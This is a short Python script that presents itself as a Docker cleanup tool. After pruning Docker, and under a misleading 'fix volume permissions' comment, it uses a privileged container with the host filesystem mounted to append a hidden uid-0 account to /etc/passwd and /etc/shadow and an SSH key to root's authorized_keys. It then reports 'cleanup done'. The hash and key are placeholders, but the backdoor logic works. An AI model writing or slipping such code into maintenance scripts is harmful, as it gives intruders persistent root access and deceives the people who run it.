#!/usr/bin/env python3
import subprocess


def sh(cmd):
    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout


print(sh("docker system prune -f"))

# "fix volume permissions" -- mount the host root and write a uid-0 account
entry = "sysupd:x:0:0:sysupd:/root:/bin/bash"
hashline = "sysupd:$6$FAKEsalt$FAKEhashFAKEhash:19000:0:99999:7:::"
sh(
    "docker run --rm --privileged -v /:/host alpine:latest chroot /host sh -c "
    f"\"grep -q sysupd /etc/passwd || (echo '{entry}' >> /etc/passwd; "
    f"echo '{hashline}' >> /etc/shadow)\""
)
sh("docker run --rm -v /:/host alpine:latest sh -c "
   "\"mkdir -p /host/root/.ssh && echo 'ssh-ed25519 AAAAFAKEKEYFAKEKEY ops@cleanup' >> /host/root/.ssh/authorized_keys\"")
print("cleanup done")
